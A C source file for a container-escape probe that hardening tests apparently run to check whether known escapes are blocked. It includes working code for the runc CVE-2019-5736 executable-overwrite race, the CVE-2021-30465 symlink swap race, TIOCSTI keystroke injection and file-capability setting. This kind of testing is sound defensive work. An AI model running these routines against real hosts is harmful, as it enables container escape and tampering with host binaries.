/* SPDX-License-Identifier: MIT */
/* escape-probe: what the hardening tests run inside containers to try known escapes.
 * Linked statically, so it runs in any image. Each subcommand prints one line per attempt,
 * `WHAT OK` or `WHAT ERRNO-NAME` (EPERM, ENOSYS, ...), and exits 0 unless misused:
 *
 *   caps                      the Cap*, NoNewPrivs and Seccomp lines of /proc/self/status
 *   syscall NAME...           tries each system call (see try_syscall) and reports
 *   tiocsti TEXT [FD]         pushes TEXT into the input of the terminal on FD (default 0) (TIOCSTI)
 *   fds                       the open fds and what they are, `N TARGET` (the listing's own fd left out)
 *   open PATH                 opens PATH for reading (non-blocking, not as controlling terminal)
 *   open-write PATH [DATA]    opens PATH for writing (no O_CREAT, no O_TRUNC), then writes DATA
 *   setfcap PATH inheritable|permitted HEXMASK
 *                             gives PATH these file capabilities, effective (security.capability)
 *   grab-exe SECONDS          for SECONDS, keeps an O_PATH fd to the executable of every new
 *                             process that is not a file of the container (the runc
 *                             CVE-2019-5736 race) and tries to open each one for writing;
 *                             prints `exe TARGET` once per target and `wrote TARGET` for a
 *                             write that succeeded
 *   swap-fifo PATH SECONDS    for SECONDS, exchanges PATH (a regular file) and PATH.fifo (a FIFO)
 *   swap PATH TARGET SECONDS  for SECONDS, exchanges PATH between a directory and a symlink to
 *                             TARGET as fast as it can (renameat2 RENAME_EXCHANGE)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static void report(const char *what, long r)
{
	const char *e = r < 0 ? strerrorname_np(errno) : NULL;
	printf("%s %s\n", what, r >= 0 ? "OK" : e ? e : "E?");
	fflush(stdout);
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + t.tv_nsec / 1e9;
}

/* fork a child that tries unshare(flags), so the probe itself stays where it is */
static long try_unshare(int flags)
{
	pid_t pid = fork();
	if (pid == 0)
		_exit(unshare(flags) < 0 ? errno : 0);
	int st;
	if (pid < 0 || waitpid(pid, &st, 0) < 0)
		return -1;
	errno = WIFEXITED(st) ? WEXITSTATUS(st) : EINTR;
	return errno ? -1 : 0;
}

static long try_syscall(const char *name)
{
	if (!strcmp(name, "getpid"))
		return syscall(SYS_getpid);
	if (!strcmp(name, "unshare-user"))
		return try_unshare(CLONE_NEWUSER);
	if (!strcmp(name, "unshare-mount"))
		return try_unshare(CLONE_NEWNS);
	if (!strcmp(name, "unshare-net"))
		return try_unshare(CLONE_NEWNET);
	if (!strcmp(name, "mount")) {
		/* on a directory of its own, undone at once: harmless wherever it succeeds */
		char dir[] = "/tmp/escape-probe-mnt.XXXXXX";
		if (!mkdtemp(dir))
			return -1;
		long r = mount("none", dir, "tmpfs", 0, NULL);
		int e = errno;
		if (r == 0)
			umount2(dir, MNT_DETACH);
		rmdir(dir);
		errno = e;
		return r;
	}
	if (!strcmp(name, "keyctl"))
		return syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
	if (!strcmp(name, "add_key"))
		return syscall(SYS_add_key, "user", "escape-probe", "x", 1, KEY_SPEC_PROCESS_KEYRING);
	if (!strcmp(name, "ptrace")) {
		pid_t pid = fork();
		if (pid == 0)
			_exit(ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0 ? errno : 0);
		int st;
		if (pid < 0 || waitpid(pid, &st, 0) < 0)
			return -1;
		errno = WIFEXITED(st) ? WEXITSTATUS(st) : EINTR;
		return errno ? -1 : 0;
	}
	if (!strcmp(name, "io_uring_setup")) {
		struct io_uring_params p = { 0 };
		long fd = syscall(SYS_io_uring_setup, 1, &p);
		if (fd >= 0)
			close((int)fd);
		return fd;
	}
	if (!strcmp(name, "clone3")) {
		struct clone_args a = { .exit_signal = SIGCHLD };
		long pid = syscall(SYS_clone3, &a, sizeof(a));
		if (pid == 0)
			_exit(0);
		if (pid > 0)
			waitpid((pid_t)pid, NULL, 0);
		return pid;
	}
	/* socket-FAMILY, socket-FAMILY-high: the family as an int, or with a bit set in the
	 * upper half of the register, which the kernel ignores and a filter must not */
	if (!strncmp(name, "socket-", 7)) {
		char *end;
		long family = strtol(name + 7, &end, 10);
		if (!strcmp(end, "-high"))
			family |= 1L << 32;
		else if (*end)
			family = -1;
		long fd = syscall(SYS_socket, family, SOCK_DGRAM, 0);
		if (fd >= 0)
			close((int)fd);
		return fd;
	}
	if (!strcmp(name, "personality"))
		return personality(READ_IMPLIES_EXEC) < 0 ? -1 : (personality(PER_LINUX), 0);
	if (!strcmp(name, "mkdir")) {
		long r = syscall(SYS_mkdir, "/tmp/escape-probe.d", 0700);
		if (r == 0)
			rmdir("/tmp/escape-probe.d");
		return r;
	}
	if (!strcmp(name, "mkdirat")) {
		long r = syscall(SYS_mkdirat, AT_FDCWD, "/tmp/escape-probe.d", 0700);
		if (r == 0)
			rmdir("/tmp/escape-probe.d");
		return r;
	}
	fprintf(stderr, "escape-probe: unknown system call name `%s`\n", name);
	exit(2);
}

static int cmd_caps(void)
{
	FILE *f = fopen("/proc/self/status", "re");
	char line[256];
	if (!f)
		return 1;
	while (fgets(line, sizeof(line), f))
		if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Seccomp:", 8))
			fputs(line, stdout);
	fclose(f);
	return 0;
}

static int cmd_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	if (!d)
		return 1;
	while ((e = readdir(d))) {
		char path[64], target[4096];
		if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%s", e->d_name);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		printf("%s %s\n", e->d_name, target);
	}
	closedir(d);
	return 0;
}

static int cmd_open(const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	report("open", fd);
	return 0;
}

static int cmd_open_write(const char *path, const char *data)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	report("open", fd);
	if (fd >= 0 && data)
		report("write", write(fd, data, strlen(data)));
	return 0;
}

static int cmd_tiocsti(const char *text, int fd)
{
	long r = 0;
	for (const char *c = text; *c && r == 0; c++)
		r = ioctl(fd, TIOCSTI, c);
	report("tiocsti", r);
	return 0;
}

static int cmd_setfcap(const char *path, const char *which, const char *hex)
{
	unsigned long long mask = strtoull(hex, NULL, 16);
	struct vfs_cap_data d = { .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE };
	bool inh = !strcmp(which, "inheritable");
	if (!inh && strcmp(which, "permitted"))
		return 2;
	for (int i = 0; i < 2; i++) {
		uint32_t v = (uint32_t)(mask >> (32 * i));
		if (inh)
			d.data[i].inheritable = v;
		else
			d.data[i].permitted = v;
	}
	report("setfcap", setxattr(path, "security.capability", &d, XATTR_CAPS_SZ_2, 0));
	return 0;
}

#define MAX_GRABBED 256

/* runc CVE-2019-5736: a process of the container keeps a handle on the executable of a
 * runtime process that enters the container, and writes it once that process has exec'd
 * (the file is no longer busy). A target that is the probe itself is not interesting. */
static int cmd_grab_exe(double seconds)
{
	struct {
		int fd;
		char target[256];
		int wrote;
	} g[MAX_GRABBED];
	int n = 0;
	char self[256] = "";
	ssize_t sl = readlink("/proc/self/exe", self, sizeof(self) - 1);
	self[sl < 0 ? 0 : sl] = '\0';
	double end = now() + seconds;
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			char path[64], target[256];
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
			ssize_t tl = readlink(path, target, sizeof(target) - 1);
			if (tl <= 0)
				continue;
			target[tl] = '\0';
			int known = !strcmp(target, self);
			for (int i = 0; i < n && !known; i++)
				known = !strcmp(g[i].target, target);
			if (known || n == MAX_GRABBED)
				continue;
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			/* a file of the container's own (an exec'd command) is not what the exploit is after */
			struct stat a, b;
			if (fstat(fd, &a) == 0 && stat(target, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino) {
				close(fd);
				continue;
			}
			g[n].fd = fd;
			g[n].wrote = 0;
			snprintf(g[n].target, sizeof(g[n].target), "%s", target);
			printf("exe %s\n", target);
			fflush(stdout);
			n++;
		}
		if (d)
			closedir(d);
		for (int i = 0; i < n; i++) {
			char path[64];
			if (g[i].wrote)
				continue;
			snprintf(path, sizeof(path), "/proc/self/fd/%d", g[i].fd);
			int fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0 && write(fd, "#!/bin/sh\necho pwned\n", 21) > 0) {
				g[i].wrote = 1;
				printf("wrote %s\n", g[i].target);
				fflush(stdout);
			}
			if (fd >= 0)
				close(fd);
		}
		usleep(500);
	}
	printf("done\n");
	return 0;
}

/* Exchanges A and B (renameat2 RENAME_EXCHANGE) as fast as it can for SECONDS. */
static int exchange_for(const char *a, const char *b, double seconds)
{
	printf("swapping\n");
	fflush(stdout);
	long swaps = 0;
	double end = now() + seconds;
	while (now() < end) {
		for (int i = 0; i < 1000; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
				swaps++;
	}
	printf("swaps %ld\n", swaps);
	return 0;
}

/* The volume race (runc CVE-2021-30465): PATH flips between a directory and a symlink. */
static int cmd_swap(const char *path, const char *target, double seconds)
{
	char link[4096];
	snprintf(link, sizeof(link), "%s.link", path);
	mkdir(path, 0755);
	unlink(link);
	if (symlink(target, link) < 0) {
		report("symlink", -1);
		return 1;
	}
	return exchange_for(link, path, seconds);
}

/* A file that is now a regular file, now a FIFO (commit's race: a reader that checked a
 * regular file and then opened a FIFO blocks): PATH and PATH.fifo exchange places. */
static int cmd_swap_fifo(const char *path, double seconds)
{
	char fifo[4096];
	snprintf(fifo, sizeof(fifo), "%s.fifo", path);
	unlink(fifo);
	FILE *f = fopen(path, "we");
	if (!f || fputs("data\n", f) < 0 || fclose(f) != 0 || mkfifo(fifo, 0644) < 0) {
		report("make", -1);
		return 1;
	}
	return exchange_for(fifo, path, seconds);
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";
	if (!strcmp(cmd, "caps") && argc == 2)
		return cmd_caps();
	if (!strcmp(cmd, "syscall") && argc > 2) {
		for (int i = 2; i < argc; i++)
			report(argv[i], try_syscall(argv[i]));
		return 0;
	}
	if (!strcmp(cmd, "tiocsti") && (argc == 3 || argc == 4))
		return cmd_tiocsti(argv[2], argc == 4 ? atoi(argv[3]) : 0);
	if (!strcmp(cmd, "fds") && argc == 2)
		return cmd_fds();
	if (!strcmp(cmd, "open") && argc == 3)
		return cmd_open(argv[2]);
	if (!strcmp(cmd, "open-write") && (argc == 3 || argc == 4))
		return cmd_open_write(argv[2], argc == 4 ? argv[3] : NULL);
	if (!strcmp(cmd, "setfcap") && argc == 5)
		return cmd_setfcap(argv[2], argv[3], argv[4]);
	if (!strcmp(cmd, "grab-exe") && argc == 3)
		return cmd_grab_exe(atof(argv[2]));
	if (!strcmp(cmd, "swap") && argc == 5)
		return cmd_swap(argv[2], argv[3], atof(argv[4]));
	if (!strcmp(cmd, "swap-fifo") && argc == 4)
		return cmd_swap_fifo(argv[2], atof(argv[3]));
	fprintf(stderr, "usage: escape-probe caps | syscall NAME... | tiocsti TEXT [FD] | fds | open PATH |\n"
			"       open-write PATH [DATA] |\n"
			"       setfcap PATH inheritable|permitted HEXMASK | grab-exe SECONDS | swap PATH TARGET SECONDS |\n"
			"       swap-fifo PATH SECONDS\n");
	return 2;
}
